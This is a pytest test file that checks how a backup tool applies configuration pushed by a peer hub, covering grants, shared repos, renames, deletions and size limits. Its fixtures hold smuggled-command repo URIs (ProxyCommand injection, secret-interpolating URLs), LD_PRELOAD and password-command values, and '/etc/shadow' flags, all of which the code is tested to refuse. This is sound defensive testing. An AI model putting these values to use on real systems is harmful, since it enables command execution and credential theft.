"""What a set_config of the other side may change here (PROTOCOL.md section 8), case by case."""

from __future__ import annotations

import pytest

from backrest import wire
from backrest.permissions import parse_grant
from backrest.refusals import Why, refusal
from backrest.store.configfile import size
from backrest.sync import apply
from backrest.sync.apply import Report, SetConfig, apply_set_config

A, B = "a" * 64, "b" * 64
Repo, Plan = wire.config.Repo, wire.config.Plan


def config() -> wire.config.Config:
    made = wire.config.Config(instance="laptop")
    made.multihost.known_hosts.add(instance_id="hub", keyid="k")
    made.repos.add(id="local", uri="/srv/local", guid=A, password="hush")
    made.plans.add(id="photos", repo="local", paths=["/srv"])
    return made


def push(here: wire.config.Config, grants: list[str], message: SetConfig) -> Report:
    peer = wire.config.Multihost.Peer(
        instance_id="hub", keyid="k", permissions=[parse_grant(g) for g in grants]
    )
    return apply_set_config(here, peer, message)


def shared(**fields: object) -> SetConfig:
    values = {
        "id": "nas",
        "uri": "/srv/nas",
        "guid": B,
        "password": "p",
        "origin_instance_id": "hub",
        **fields,
    }
    return SetConfig(repos=[Repo(**values)])  # type: ignore[arg-type]


@pytest.mark.parametrize("claimed", ["hub", "somebody", ""])
def test_a_shared_repo_has_its_sender_as_origin_whatever_it_claims(claimed: str) -> None:
    here = config()
    report = push(here, ["receive-shared-repos"], shared(origin_instance_id=claimed))
    assert report.changed
    assert here.repos[1].origin_instance_id == "hub"


def test_the_same_push_again_changes_nothing() -> None:
    here = config()
    push(here, ["receive-shared-repos"], shared())
    report = push(here, ["receive-shared-repos"], shared())
    assert not report.changed
    assert not report.applied
    assert not report.refused


def test_a_later_push_changes_the_repo_that_came_from_the_same_hub() -> None:
    here = config()
    push(here, ["receive-shared-repos"], shared())
    push(here, ["receive-shared-repos"], shared(password="new"))
    assert here.repos[1].password == "new"


def test_a_repo_may_be_renamed_to_what_looks_like_itself_and_to_nothing_that_looks_like_another() -> None:
    here = config()
    push(here, ["receive-shared-repos"], shared())
    assert push(here, ["receive-shared-repos"], shared(id="NAS")).changed
    [refused] = push(here, ["receive-shared-repos"], shared(id="Local")).refused
    assert refused.code is Why.ALIKE_ID
    assert here.repos[1].id == "NAS"


@pytest.mark.parametrize(
    ("grants", "fields", "reason"),
    [
        ([], {}, Why.SHARE_NOT_GRANTED),
        (["read-operations=*"], {}, Why.SHARE_NOT_GRANTED),
        (["receive-shared-repos"], {"guid": A}, Why.SAME_GUID),
        (["receive-shared-repos"], {"id": "local"}, Why.SAME_ID),
        (["receive-shared-repos"], {"uri": "/srv/local"}, Why.SAME_ADDRESS),
        (["receive-shared-repos"], {"guid": ""}, Why.NO_GUID),
        (["read-write-config=repo:nas"], {"guid": A}, Why.SAME_GUID),
        (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, Why.NOT_HARMLESS),
        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, Why.NOT_HARMLESS),
        (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, Why.NOT_HARMLESS),
    ],
)
def test_what_is_not_allowed_is_skipped_with_a_reason(
    grants: list[str], fields: dict[str, str], reason: Why
) -> None:
    here = config()
    report = push(here, grants, shared(**fields))
    assert not report.changed
    assert here == config()
    [refused] = report.refused
    assert (refused.kind, refused.code) == ("repo", reason)
    assert refused.is_about("repo", str(fields.get("id", "nas")))


def test_a_repo_of_another_hub_is_not_taken_over() -> None:
    here = config()
    here.repos.add(id="theirs", uri="/srv/theirs", guid=B, origin_instance_id="other")
    report = push(here, ["receive-shared-repos"], shared())
    assert not report.changed
    assert report.refused == [refusal("repo", "nas", Why.SHARED_BY_OTHER, hub="other")]
    assert report.told == [refusal("repo", "nas", Why.SHARED_BY_OTHER)]


def test_a_hub_limited_to_one_repo_cannot_reach_another_by_its_guid() -> None:
    here = config()
    report = push(here, ["read-write-config=repo:nas"], shared(guid=A, origin_instance_id=""))
    assert not report.changed


def test_write_permission_on_a_local_repo_changes_it_and_it_stays_local() -> None:
    here = config()
    report = push(here, ["read-write-config=*"], shared(id="local", uri="/srv/new", guid=A))
    assert report.changed
    assert (here.repos[0].uri, here.repos[0].origin_instance_id) == ("/srv/new", "")


def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
    message = shared(
        env=["RESTIC_COMPRESSION=max", "RESTIC_PASSWORD_COMMAND=evil", "LD_PRELOAD=/x", "A=${HOME}"],
        flags=[
            "--no-cache",
            "--header ${SECRET}",
            "-o sftp.command=evil",
            "--option=rclone.program=evil",
            "--password-command evil",
        ],
    )
    message.repos[0].hooks.add().action_command.command = "evil"
    message.repos[0].command_prefix.io_nice = wire.config.CommandPrefix.IO_IDLE
    here = config()
    report = push(here, ["receive-shared-repos"], message)
    taken = here.repos[1]
    assert (list(taken.env), list(taken.flags), len(taken.hooks)) == (
        ["RESTIC_COMPRESSION=max"],
        ["--no-cache"],
        0,
    )
    assert not taken.HasField("command_prefix")
    assert report.refused[0].code is Why.LEFT_OUT
    assert "hooks" in report.refused[0].words()
    assert "RESTIC_PASSWORD_COMMAND" in report.refused[0].words()
    assert report.done == 1
    trusted = config()
    push(trusted, ["receive-shared-repos", "read-write-config=*"], message)
    assert len(trusted.repos[1].hooks) == 1


def used() -> wire.config.Config:
    """A shared repo that a plan here uses."""
    here = config()
    push(here, ["receive-shared-repos"], shared(uri="rest:https://u:a@one/x", flags=["--no-cache"]))
    here.plans.add(id="mine", repo="nas", paths=["/srv"])
    return here


MOVED = {"uri": "rest:https://u:a@one/y", "flags": ["--no-cache"]}


def test_a_change_of_the_address_of_a_repo_in_use_waits_and_the_rest_is_taken() -> None:
    here = used()
    report = push(here, ["receive-shared-repos"], shared(**MOVED, password="new", env=["RESTIC_PACK_SIZE=8"]))
    now = here.repos[1]
    assert (now.uri, list(now.env), now.password) == ("rest:https://u:a@one/x", [], "new")
    assert report.refused == [refusal("repo", "nas", Why.WAITS, names=["address", "environment"])]
    assert report.told == report.refused
    assert report.done == 1
    wanted = report.waits[B]
    assert wanted is not None
    assert (wanted.origin, wanted.uri, wanted.env) == ("hub", MOVED["uri"], ("RESTIC_PACK_SIZE=8",))
    assert wanted.flags == ("--no-cache",)


def test_flags_wait_by_themselves_and_nothing_waits_when_the_hub_goes_back() -> None:
    here = used()
    moved = shared(uri="rest:https://u:b@two/x", flags=["--limit-upload=1"])
    report = push(here, ["receive-shared-repos"], moved)
    assert (here.repos[1].uri, list(here.repos[1].flags)) == ("rest:https://u:b@two/x", ["--no-cache"])
    assert report.refused == [refusal("repo", "nas", Why.WAITS, names=["flags"])]
    report = push(here, ["receive-shared-repos"], shared(uri="rest:https://u:b@two/x", flags=["--no-cache"]))
    assert (report.waits, report.refused, report.changed) == ({B: None}, [], False)


def test_nothing_waits_for_a_repo_that_no_plan_uses_or_whose_hub_may_write_it() -> None:
    here = used()
    report = push(here, ["receive-shared-repos", "read-write-config"], shared(**MOVED))
    assert (here.repos[1].uri, report.waits, report.refused) == (MOVED["uri"], {B: None}, [])
    here = used()
    here.plans.pop()
    report = push(here, ["receive-shared-repos"], shared(**MOVED))
    assert (here.repos[1].uri, report.waits, report.refused) == (MOVED["uri"], {B: None}, [])


def test_what_waits_must_be_harmless_and_have_a_place_of_its_own() -> None:
    for uri, why in (("rclone:x", Why.NOT_HARMLESS), ("/srv/local", Why.SAME_ADDRESS)):
        here = used()
        before = wire.config.Config.FromString(here.SerializeToString())
        report = push(here, ["receive-shared-repos"], shared(uri=uri))
        assert [one.code for one in report.refused] == [why]
        assert (report.waits, here) == ({}, before)


def test_a_repo_in_use_from_before_the_rules_loses_what_may_do_harm_without_waiting() -> None:
    here = used()
    here.repos[1].flags.append("--files-from=/etc/shadow")
    here.repos[1].env.append("LD_PRELOAD=/x")
    report = push(here, ["receive-shared-repos"], shared(uri="rest:https://u:a@one/x", flags=["--no-cache"]))
    assert (list(here.repos[1].flags), list(here.repos[1].env)) == (["--no-cache"], [])
    assert (report.refused, report.waits) == ([], {B: None})


@pytest.mark.parametrize("trusted", [True, False])
def test_a_bad_flag_place_or_pattern_costs_its_item_and_no_other(trusted: bool) -> None:
    here = config()
    message = shared(flags=["/etc/shadow"])
    message.plans.add(id="bad", repo="local", paths=["/srv"], backup_flags=["/etc/shadow"])
    message.plans.add(id="good", repo="local", paths=["/srv"], backup_flags=["-x"])
    message.plans.add(id="elsewhere", repo="local", paths=["srv"])
    message.plans.add(id="all", repo="local", paths=["/srv"], excludes=["[x"])
    grants = ["receive-shared-repos", "read-write-config" if trusted else "read-write-config=plan:good"]
    report = push(here, grants, message)
    assert [plan.id for plan in here.plans] == ["photos", "good"]
    codes = [one.code for one in report.refused]
    if trusted:
        assert sorted(codes) == [*[Why.BAD_FLAG] * 2, *[Why.BAD_PLACE] * 2]
    else:
        assert sorted(codes) == [Why.LEFT_OUT, *[Why.WRITE_NOT_GRANTED] * 3]
        assert not here.repos[1].flags


def test_a_client_of_ours_shares_nothing_with_us_and_writes_local_repos_where_it_may() -> None:
    here = config()
    here.multihost.authorized_clients.append(here.multihost.known_hosts.pop())
    for grants in (["receive-shared-repos"], ["receive-shared-repos", "read-write-config=repo:x"]):
        report = push(here, grants, shared())
        assert not report.changed
        assert report.refused == [refusal("repo", "nas", Why.WRITE_NOT_GRANTED)]
    assert push(here, ["read-write-config=*"], shared()).changed
    assert (here.repos[1].id, here.repos[1].origin_instance_id) == ("nas", "")


def test_items_are_judged_one_by_one_and_what_passes_is_applied() -> None:
    here = config()
    message = shared()
    message.plans.add(id="photos", repo="local", paths=["/changed"])
    message.plans.add(id="docs", repo="local", paths=["/docs"])
    message.plans_to_delete.append("photos")
    report = push(here, ["read-write-config=plan:docs", "receive-shared-repos"], message)
    assert [plan.id for plan in here.plans] == ["photos", "docs"]
    assert list(here.plans[0].paths) == ["/srv"]
    assert [repo.id for repo in here.repos] == ["local", "nas"]
    assert len(report.refused) == 2


def test_deleting_needs_write_permission_and_an_unused_repo() -> None:
    here = config()
    assert not push(here, ["receive-shared-repos"], SetConfig(repos_to_delete=["local"])).changed
    used = push(here, ["read-write-config=*"], SetConfig(repos_to_delete=["local"]))
    assert used.refused == [refusal("repo", "local", Why.IN_USE, plans=["photos"])]
    both = SetConfig(repos_to_delete=["local"], plans_to_delete=["photos", "never was"])
    assert push(here, ["read-write-config=*"], both).changed
    assert not here.repos
    assert not here.plans


# --- how much a peer may add


def test_a_peer_can_fill_the_configuration_to_the_bound_and_no_further(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    here = config()
    [nas] = shared().repos
    used = sum(map(size, (*here.repos, *here.plans)))
    monkeypatch.setattr(apply, "TOTAL_BYTES", used + size(nas))
    report = push(here, ["receive-shared-repos"], shared(password="pp"))
    assert not report.changed
    assert report.refused == report.told == [refusal("repo", "nas", Why.NO_ROOM, limit=0)]
    assert (report.done, here) == (0, config())
    assert push(here, ["receive-shared-repos"], shared()).changed
    assert not push(here, ["receive-shared-repos"], shared(password="pp")).changed, "it may not grow"
    assert push(here, ["receive-shared-repos"], shared(password="q")).changed
    monkeypatch.setattr(apply, "TOTAL_BYTES", used)
    assert push(here, ["receive-shared-repos"], shared(password="")).changed, "smaller, and still too much"
    monkeypatch.setattr(apply, "TOTAL_BYTES", used + size(here.repos[1]))
    plans = ["read-write-config=*"]
    assert push(here, plans, SetConfig(plans=[Plan(id="p", repo="local")])).refused[0].code is Why.NO_ROOM
    assert push(here, plans, SetConfig(plans=[Plan(id="photos", repo="local")])).changed, (
        "smaller than it was"
    )
    assert push(here, plans, SetConfig(plans_to_delete=["photos"])).changed
    assert push(here, plans, SetConfig(plans=[Plan(id="p", repo="local")])).changed


def test_a_hub_that_shares_without_end_is_refused_item_by_item() -> None:
    """Attack: a thousand repos of the largest size are more than is read back of a file; then no daemon starts."""
    here = config()
    large = wire.config.CheckPolicy(schedule=wire.config.Schedule(cron="y" * 250_000))
    for part in range(2):
        repos = [
            Repo(id=f"r{part}-{n}", guid=f"{part}{n:063}", uri=f"/{part}/{n}", check_policy=large)
            for n in range(70)
        ]
        report = push(here, ["receive-shared-repos"], SetConfig(repos=repos))
        taken = 0 if part else apply.TOTAL_BYTES // size(repos[0])
        assert (report.done, len(report.refused)) == (taken, 70 - taken)
        assert report.told[-1].code is Why.NO_ROOM
    assert sum(map(size, here.repos)) <= apply.TOTAL_BYTES
    assert push(here, ["receive-shared-repos"], shared()).changed, "what is small still has its place"


def test_what_is_small_on_the_wire_and_large_in_the_file_counts_as_large() -> None:
    """Attack: the name of an enum's value takes fifty bytes of the file for each byte of the message."""
    here = config()
    hook = wire.config.Hook(conditions=[wire.config.Hook.CONDITION_SNAPSHOT_WARNING] * 200_000)
    hooks = [
        Repo(id=f"r{n}", guid=f"{n:064}", uri=f"/{n}", hooks=[hook], origin_instance_id="hub")
        for n in range(9)
    ]
    message = SetConfig(repos=hooks)
    assert message.ByteSize() < 2_000_000
    report = push(here, ["receive-shared-repos", "read-write-config=*"], message)
    assert 0 < len(report.refused) < 9
    assert sum(map(size, here.repos)) <= apply.TOTAL_BYTES
